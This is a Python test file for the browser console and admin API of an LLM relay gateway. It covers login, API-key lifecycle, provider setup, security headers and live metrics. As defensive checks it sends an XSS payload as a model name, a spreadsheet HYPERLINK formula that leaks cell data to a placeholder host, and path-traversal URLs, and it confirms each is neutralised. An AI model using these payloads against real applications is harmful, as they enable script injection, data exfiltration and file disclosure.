"""The console (/ui) in a real headless Chromium against a real relay and mock upstream: log in, watch a request
appear by itself, create a key and use it with the anthropic SDK, revoke it; model names shown as text; nothing
from another origin; no console errors. Then its headers and its admin routes over plain HTTP, and the live
series' arithmetic."""

from __future__ import annotations

import re
import time
from pathlib import Path
from typing import Any

import anthropic
import pytest
import trio

from relay.live import RECENT, STEP, STEPS, Live, merged
from tests.browser import browser_page
from tests.conftest import RELAY_KEY, relay_config, start_relay
from tests.mock_upstream import MockUpstream, completion, text_stream
from tests.test_gateway import ADMIN, ask, call, gateway_config, run, running, until

def answers_ok(recorded: Any) -> Any:
    """The mock upstream's "ok", as a stream or in one piece, as asked."""
    if recorded.json.get("stream"):
        return text_stream("ok", usage=(10, 5))
    return completion({"role": "assistant", "content": "ok"})


HOSTILE = '<script>window.pwned=1</script><img src=x onerror="window.pwned=2">'


def login(page: Any, url: str, key: str = ADMIN) -> None:
    page.goto(url + "/ui")
    page.fill("#admin-key", key)
    page.click("#login-form button")


def browse_overview_and_keys(url: str) -> None:
    with browser_page(url) as (page, watch):
        # a wrong key is refused and the login stays; a client key too (the admin API refuses it)
        login(page, url, "not-a-key")
        page.wait_for_selector("#login-error:has-text('admin key')")
        login(page, url, RELAY_KEY)
        page.wait_for_selector("#login-error:has-text('client key cannot')")
        assert page.evaluate("sessionStorage.getItem('relay-admin-key')") is None
        watch.errors.clear()  # the refused fetches above are logged by the browser as failed loads
        login(page, url)
        page.wait_for_selector("#page[data-page=overview] #cards .card")
        assert page.evaluate("document.cookie") == ""
        # a request made elsewhere appears on the overview by itself (no reload, no click)
        assert ask(url, RELAY_KEY) == "ok"
        row = page.wait_for_selector("#recent tr:has-text('mock/mock-model')", timeout=10_000)
        cells = [c.inner_text() for c in row.query_selector_all("td")]
        assert cells[1] == "key1" and cells[2] == "mock-model" and cells[4] == "200", cells
        assert cells[7] == "10 / 5" and cells[8] == "$0.0200", cells
        page.wait_for_selector("[data-metric='spend today']:text-is('$0.0200')", timeout=15_000)
        # a hostile model name is text: shown as sent, nothing of it runs or becomes an element
        assert ask(url, RELAY_KEY, HOSTILE) == "ok"
        cell = page.wait_for_selector("#recent td:has-text('window.pwned')", timeout=10_000)
        assert cell.inner_text() == HOSTILE
        assert page.evaluate("window.pwned") is None
        assert page.evaluate("document.querySelectorAll('#recent script, #recent img').length") == 0
        # the Keys page: create (secret shown once), use it with the SDK, set a limit, revoke
        page.click("nav a[data-page=keys]")
        page.fill("#create-key input[name=name]", "alice")
        page.fill("#create-key input[name=rpm]", "30")
        page.fill("#create-key input[name=budget]", "1")
        page.click("#create-key button[type=submit]")
        secret = page.wait_for_selector("#new-secret").inner_text()
        assert re.fullmatch(r"rk-[A-Za-z0-9_-]{40,}", secret), secret
        row = page.wait_for_selector("#keys tr[data-key=alice]")
        assert "active" in row.inner_text() and "30" in row.inner_text() and secret not in row.inner_text()
        assert ask(url, secret) == "ok"
        page.click("#keys tr[data-key=alice] button:has-text('Limits')")
        limits = page.locator("#keys tr[data-key=alice] + tr form")
        limits.locator("input[name=rpm]").fill("7")
        limits.locator("button[type=submit]").click()
        page.wait_for_selector("#keys tr[data-key=alice] td:nth-child(5):text-is('7')")
        page.reload()  # the secret is not shown again, anywhere
        page.wait_for_selector("#keys tr[data-key=alice]")
        assert secret not in page.content()
        assert "$0.0200 of $1.00 / month" in page.inner_text("#keys tr[data-key=alice]")
        page.click("[data-revoke=alice]")
        page.wait_for_selector("#keys tr[data-key=alice] .pill.revoked")
        # the overview shows the new key's request too
        page.click("nav a[data-page=overview]")
        page.wait_for_selector("#recent td:text-is('alice')", timeout=10_000)
        watch.clean()
    # revoked: refused within a second (the store's refresh is 50 ms here)
    for _ in range(50):
        try:
            ask(url, secret)
        except anthropic.AuthenticationError:
            return
        time.sleep(0.05)
    raise AssertionError("a revoked key still works")


async def test_console_overview_live_and_keys_in_a_browser(nursery: trio.Nursery, upstream: MockUpstream,
                                                            tmp_path: Path) -> None:
    upstream.handler = lambda r: text_stream("ok", usage=(10, 5))
    relay = await start_relay(nursery, gateway_config(upstream, f"sqlite://{tmp_path / 'relay.sqlite3'}"))
    await run(browse_overview_and_keys, relay.url)


def browse_providers_routes_usage(url: str) -> None:
    with browser_page(url) as (page, watch):
        login(page, url)
        page.wait_for_selector("#page[data-page=overview]")
        page.click("nav a[data-page=providers]")
        page.wait_for_selector("#page[data-page=providers] h2:has-text('mock')")
        text = page.inner_text("#page")
        assert "circuit closed" in text and "1 key(s), 0 cooling down" in text and "mock-model" in text
        assert "sk-upstream" not in page.content()  # upstream keys are counted, never shown
        page.click("[data-try='mock/mock-model']")  # a tiny request straight to the upstream: its answer and latency
        page.wait_for_selector(".try-result.ok:has-text('ok')")
        assert re.search(r"\d ms: ok$", page.inner_text(".try-result.ok")), page.inner_text(".try-result.ok")
        page.click("nav a[data-page=routes]")
        page.fill("#resolve input", "alias-model")
        page.click("#resolve button")
        page.wait_for_selector("#resolved td:has-text('mock/aliased-upstream-model')")
        assert "mock/small-model" in page.inner_text("#page")  # the haiku tier
        page.click("nav a[data-page=usage]")
        page.wait_for_selector("#page[data-page=usage] #csv")
        assert page.inner_text("#usage-keys tbody tr").split() == ["key1", "2", "0", "30", "$0.0400"]
        assert len(page.query_selector_all("#chart-spend rect")) == 1  # one day so far
        assert page.text_content("#chart-spend rect title").endswith(": $0.0400")
        assert page.query_selector("#chart-spend rect").bounding_box()["height"] > 40  # the day's bar is full height
        with page.expect_download() as download:
            page.click("#csv")
        csv = Path(download.value.path()).read_text()
        assert csv.startswith("day,key,model,requests,") and ",key1,mock-model,1,0,10,5," in csv, csv
        assert ',key1,"\'=HYPERLINK(""http://x.invalid/?""&A1,""click"")",1,' in csv, csv  # text, not a formula
        watch.clean()


async def test_console_providers_routes_usage_in_a_browser(nursery: trio.Nursery, upstream: MockUpstream,
                                                           tmp_path: Path) -> None:
    upstream.handler = answers_ok
    relay = await start_relay(nursery, gateway_config(upstream, f"sqlite://{tmp_path / 'relay.sqlite3'}"))
    assert await run(ask, relay.url, RELAY_KEY) == "ok"
    assert await run(ask, relay.url, RELAY_KEY, '=HYPERLINK("http://x.invalid/?"&A1,"click")') == "ok"
    await relay.server.flush_usage()
    await run(browse_providers_routes_usage, relay.url)


async def test_console_headers_and_admin_routes(nursery: trio.Nursery, upstream: MockUpstream, tmp_path: Path) -> None:
    upstream.handler = answers_ok
    relay = await start_relay(nursery, gateway_config(upstream, f"sqlite://{tmp_path / 'relay.sqlite3'}"))
    url = relay.url
    import http.client
    from urllib.parse import urlsplit

    def get(path: str, key: str | None = None) -> tuple[int, dict[str, str], bytes]:
        parts = urlsplit(url)
        conn = http.client.HTTPConnection(parts.hostname or "", parts.port, timeout=10)
        conn.request("GET", path, headers={"x-api-key": key} if key else {})
        answer = conn.getresponse()
        out = answer.status, {k.lower(): v for k, v in answer.getheaders()}, answer.read()
        conn.close()
        return out

    for path, kind in (("/ui", "text/html"), ("/ui/", "text/html"), ("/ui/app.js", "text/javascript"),
                       ("/ui/style.css", "text/css")):
        status, headers, body = await run(get, path)
        assert status == 200 and headers["content-type"].startswith(kind), (path, status)
        csp = headers["content-security-policy"]
        assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp
        assert headers["x-content-type-options"] == "nosniff" and "set-cookie" not in headers
    status, _, body = await run(get, "/ui")
    assert b"<script>" not in body and b" style=" not in body and b"http" not in body.replace(b"http-equiv", b"")
    head = await run(call, url, "HEAD", "/ui")
    assert head.status_code == 200 and head.text == ""
    posted = await run(call, url, "POST", "/ui", "", {"x": "y" * 1000})  # refused on its head, no key asked
    assert posted.status_code == 405
    for path in ("/ui/../config.py", "/ui/%2e%2e/__init__.py", "/ui/__init__.py", "/ui/nope.js"):
        assert (await run(get, path))[0] == 404, path
    # the console's admin routes: admin key only
    assert (await run(get, "/admin/live", RELAY_KEY))[0] == 403
    assert (await run(get, "/admin/live"))[0] == 401
    assert (await run(call, url, "POST", "/admin/live", ADMIN, {})).status_code == 405
    assert await run(ask, url, RELAY_KEY) == "ok"
    live = (await run(call, url, "GET", "/admin/live")).json()
    assert len(live["series"]["requests_per_s"]) == STEPS and live["step"] == STEP
    [seen] = live["recent"]
    assert (seen["key"], seen["model"], seen["target"], seen["status"], seen["input_tokens"]) == \
        ("key1", "mock-model", "mock/mock-model", 200, 10)
    assert live["instances"] == 1 and live["store"] == "up" and live["streams_open"] == 0 and live["unreadable"] == 0
    assert (await run(call, url, "GET", "/admin/live")).json()["recent"] == [seen]  # the same id: the page dedups
    providers = (await run(call, url, "GET", "/admin/providers")).json()["data"]
    assert providers[0]["name"] == "mock" and providers[0]["health"]["circuit"] == "closed"
    assert "sk-" not in (await run(call, url, "GET", "/admin/providers")).text
    tried = (await run(call, url, "POST", "/admin/try", ADMIN, {"target": "mock/mock-model"})).json()
    assert tried["ok"] and tried["text"] == "ok" and tried["ms"] > 0
    assert (await run(call, url, "POST", "/admin/try", ADMIN, {"target": "nope/x"})).status_code == 400
    assert (await run(call, url, "POST", "/admin/try", RELAY_KEY, {"target": "mock/mock-model"})).status_code == 403
    resolved = (await run(call, url, "GET", "/admin/resolve?model=alias-model")).json()
    assert resolved["targets"][0]["target"] == "mock/aliased-upstream-model"
    # no admin keys: no admin API and no console
    bare = await start_relay(nursery, relay_config(upstream.base_url))
    assert (await run(call, bare.url, "GET", "/ui")).status_code == 404
    assert (await run(call, bare.url, "GET", "/admin/live")).status_code == 404


def browse_custom_models(url: str, custom_url: str) -> None:
    with browser_page(url) as (page, watch):
        page.on("dialog", lambda dialog: dialog.accept())
        login(page, url)
        page.wait_for_selector("#page[data-page=overview]")
        page.click("nav a[data-page=models]")
        page.wait_for_selector("#from-file td:text-is('mock')")  # the config file's provider: listed, not editable
        assert page.query_selector("[data-edit='mock']") is None
        # a table the parser refuses: its words on the page, nothing stored
        page.fill("#model-form [name=name]", "custom")
        page.fill("#model-form [name=base_url]", custom_url)
        page.fill("#model-form [name=api_key]", "sk-custom-from-the-page")
        page.fill("#model-form [name=models]", "custom-model")
        page.fill("#model-form [name=extra]", '{"retries": "three"}')
        page.click("#model-form button[type=submit]")
        page.wait_for_selector("#model-error:has-text('retries: expected int')")
        assert page.query_selector("#stored tr[data-name=custom]") is None
        watch.errors.clear()  # the browser logs the refused save (400) as a failed load
        page.fill("#model-form [name=extra]", '{"tool_call_content": "empty", "retries": 0, "headers": {"x-team": "HDR"}}')
        page.click("#model-form button[type=submit]")
        page.wait_for_selector("#model-saved:has-text('served here now')")
        page.wait_for_selector("#stored tr[data-name=custom]:has-text('custom-model')")
        assert ask(url, RELAY_KEY, "custom/custom-model") == "from custom"  # routed to it at once
        # edited: another model name; the key stays as it was (the field is left empty)
        page.click("[data-edit=custom]")
        assert page.input_value("#model-form [name=api_key]") == "" and page.input_value("#model-form [name=name]") == "custom"
        assert "retries" in page.input_value("#model-form [name=extra]")
        page.fill("#model-form [name=models]", "custom-model, second-model")
        page.click("#model-form button[type=submit]")
        page.wait_for_selector("#stored tr[data-name=custom]:has-text('second-model')")
        assert ask(url, RELAY_KEY, "second-model") == "from custom"
        assert "sk-custom-from-the-page" not in page.content() and "HDR" not in page.content()
        page.click("[data-delete=custom]")
        page.wait_for_selector("#stored tr[data-name=custom]", state="detached")
        # from a preset: the preset's format stays (the page sends none)
        page.fill("#model-form [name=name]", "gem")
        page.select_option("#model-form [name=preset]", "gemini")
        page.fill("#model-form [name=models]", "gemini-2.5-flash")
        page.click("#model-form button[type=submit]")
        page.wait_for_selector("#stored tr[data-name=gem]:has-text('gemini')")
        # a stored provider this process leaves out is drawn with why, and the others after it still are
        page.click("nav a[data-page=providers]")
        page.wait_for_selector("#page[data-page=providers] .error:has-text('LAB_ELSEWHERE is not set')")
        page.wait_for_selector("#page[data-page=providers] h2:has-text('mock')")
        watch.clean()


async def test_console_custom_models_in_a_browser(nursery: trio.Nursery, upstream: MockUpstream, tmp_path: Path) -> None:
    custom = MockUpstream(lambda r: text_stream("from custom", usage=(3, 2)))
    await nursery.start(custom.serve)
    upstream.handler = lambda r: text_stream("from mock", usage=(1, 1))
    relay = await start_relay(nursery, gateway_config(upstream, f"sqlite://{tmp_path / 'relay.sqlite3'}")
                              + 'provider_env = ["LAB_*"]\n')
    elsewhere = {"name": "aaa-elsewhere", "base_url": custom.base_url, "api_key": "${LAB_ELSEWHERE}"}
    assert (await run(call, relay.url, "POST", "/admin/providers", ADMIN, elsewhere)).status_code == 201
    await run(browse_custom_models, relay.url, custom.base_url)
    auth = {r.headers["authorization"] for r in custom.requests}
    assert auth == {"Bearer sk-custom-from-the-page"}, auth
    assert {r.headers["x-team"] for r in custom.requests} == {"HDR"}  # the edit sent the masked header back unchanged
    assert custom.requests[0].json["model"] == "custom-model" and custom.requests[-1].json["model"] == "second-model"
    gem = (await run(call, relay.url, "GET", "/admin/providers/gem")).json()
    assert gem["format"] == "gemini" and "format" not in gem["table"] and gem["table"]["preset"] == "gemini"


def test_live_series_and_bounds() -> None:
    live = Live()
    t0 = 1_000_000.0  # a multiple of STEP
    for i in range(RECENT + 50):
        live.request_done(t0 + 1, key="k", model="m" * 500, target="p/m", status=200 if i % 4 else 500, stream=True,
                          ttfb=0.1, duration=0.2, input_tokens=3, output_tokens=2, cost_micros=10)
    live.streams(t0 + 2, 4)
    snap = live.snapshot(t0 + 5)
    s = snap["series"]
    assert len(snap["recent"]) == RECENT  # bounded: the oldest went; newest first
    assert (snap["recent"][0]["id"], snap["recent"][-1]["id"]) == ("local-150", "local-51")
    assert len(snap["recent"][0]["model"]) <= 201
    assert s["requests_per_s"][-1] == pytest.approx(150 / 5) and s["tokens_per_s"][-1] == pytest.approx(750 / 5)
    assert s["error_rate"][-1] == pytest.approx(38 / 150, abs=1e-3) and s["streams_open"][-1] == 4
    assert s["cost_usd"][-1] == pytest.approx(0.0015)
    assert 100 <= s["ttfb_p50_ms"][-1] <= 125 and s["ttfb_p50_ms"][-2] is None
    for _ in range(3):  # slow ones in the step before: 2 % of the minute, so they are its p99
        live.request_done(t0 - STEP + 1, key="k", model="m", target="p/m", status=200, stream=False, ttfb=2.0,
                          duration=2.0, input_tokens=10, output_tokens=0, cost_micros=0)
    minute = live.snapshot(t0 + 5)["last_minute"]
    assert minute["requests_per_s"] == pytest.approx(153 / 55, abs=1e-3)
    assert minute["error_rate"] == pytest.approx(38 / 153, abs=1e-3)
    assert 100 <= minute["ttfb_p50_ms"] <= 125 and 2000 <= minute["ttfb_p99_ms"] <= 2500
    assert live.snapshot(t0 + 5 + 6 * STEP)["last_minute"]["requests_per_s"] == 0  # a minute on: nothing
    # an hour on, the slot is reused and the old counts are gone
    later = live.snapshot(t0 + STEP * STEPS + 1)["series"]
    assert sum(later["requests_per_s"]) == 0 and later["ttfb_p99_ms"][-1] is None


def test_live_figures_of_several_processes_merge() -> None:
    """What the console shows with several workers or instances: each publishes its export; any merges them."""
    t0 = 1_000_000.0
    one, two = Live("one"), Live("two")
    for n, (live, ttfb) in enumerate(((one, 0.1), (two, 2.0), (one, 0.1), (two, 2.0))):
        live.request_done(t0 + 1 + n, key="k", model="m", target="p/m", status=200 if n else 500, stream=True,
                          ttfb=ttfb, duration=3.0, input_tokens=10, output_tokens=5, cost_micros=100)
    two.request_done(t0 - 30 * STEP, key="k", model="m", target="p/m", status=200, stream=True, ttfb=None,
                     duration=1.0, input_tokens=1, output_tokens=1, cost_micros=0)  # half an hour ago
    one.streams(t0 + 5, 3)
    two.streams(t0 + 5, 2)
    bad = [None, {"v": 1, "slots": [[1, 2]], "recent": []}, {"slots": [], "recent": []}, {"v": 1, "slots": "x"},
           {"v": 1, "slots": [[int(t0 // STEP), "many", 0, 0, 0, 0, []]], "recent": [], "streams_open": 9}]
    whole, streams_open, unreadable = merged(t0 + 6, [one.export(t0 + 6, 3), *bad, two.export(t0 + 6, 2)])
    assert unreadable == len(bad)  # left out one by one: none of them blanks the view or adds a thing
    snap = whole.snapshot(t0 + 6)
    s = snap["series"]
    assert streams_open == 5 and s["streams_open"][-1] == 5
    assert s["requests_per_s"][-1] == pytest.approx(4 / 6, abs=1e-3) and s["error_rate"][-1] == 0.25
    assert s["cost_usd"][-1] == pytest.approx(0.0004) and s["tokens_per_s"][-1] == pytest.approx(60 / 6)
    assert 100 <= s["ttfb_p50_ms"][-1] <= 125 and 2000 <= s["ttfb_p99_ms"][-1] <= 2500  # histograms added
    assert s["requests_per_s"][-31] == pytest.approx(0.1)  # the older step of one instance kept its place
    assert [r["id"] for r in snap["recent"]] == ["two-2", "one-2", "two-1", "one-1", "two-3"]  # newest first
    many = [Live(str(i)) for i in range(3)]
    for i, live in enumerate(many):
        for j in range(RECENT):
            live.request_done(t0 + j + i / 10, key="k", model="m", target="p/m", status=200, stream=True, ttfb=0.1,
                              duration=0.1, input_tokens=1, output_tokens=1, cost_micros=0)
    whole, _, _ = merged(t0 + RECENT, [live.export(t0 + RECENT, 0) for live in many])
    recent = whole.snapshot(t0 + RECENT)["recent"]
    assert len(recent) == RECENT and recent[0]["id"] == f"2-{RECENT}"  # bounded, the newest of all kept


def test_provider_urls_are_shown_without_secrets() -> None:
    from relay.admin import shown_url as _shown_url

    assert _shown_url("https://user:pw@llm.internal:8443/v1?key=abc") == "https://llm.internal:8443/v1"
    assert _shown_url("http://[::1]:8080/v1") == "http://[::1]:8080/v1"


async def test_the_console_on_any_instance_shows_the_whole_gateway(nursery: trio.Nursery, upstream: MockUpstream,
                                                                   tmp_path: Path) -> None:
    """Two relay processes on one store (as the workers of ``--workers 2`` are): a request served by one appears on
    the other's overview, which counts both processes."""
    upstream.handler = lambda r: text_stream("ok", usage=(10, 5))
    config = tmp_path / "relay.toml"
    config.write_text(gateway_config(upstream, f"sqlite://{tmp_path / 'relay.sqlite3'}", refresh=0.1))
    async with running(config, "relay0", "relay1") as (one, two):
        assert await run(ask, two.url, RELAY_KEY, "mock-model") == "ok"

        async def seen_on_one() -> bool:
            live = (await run(call, one.url, "GET", "/admin/live")).json()
            return live["instances"] == 2 and [r["target"] for r in live["recent"]] == ["mock/mock-model"]

        await until(seen_on_one, seconds=8)
        live = (await run(call, one.url, "GET", "/admin/live")).json()
        assert sum(live["series"]["requests_per_s"]) > 0 and live["recent"][0]["key"] == "key1"
        logs = [two.stop()]  # SIGTERM: it leaves the store's list at once, not after 10 s of silence
        started = trio.current_time()

        async def alone() -> bool:
            return (await run(call, one.url, "GET", "/admin/live")).json()["instances"] == 1  # type: ignore[no-any-return]

        await until(alone, seconds=8)
        assert trio.current_time() - started < 3
        logs.append(one.stop())
    assert all("Traceback" not in log for log in logs), logs
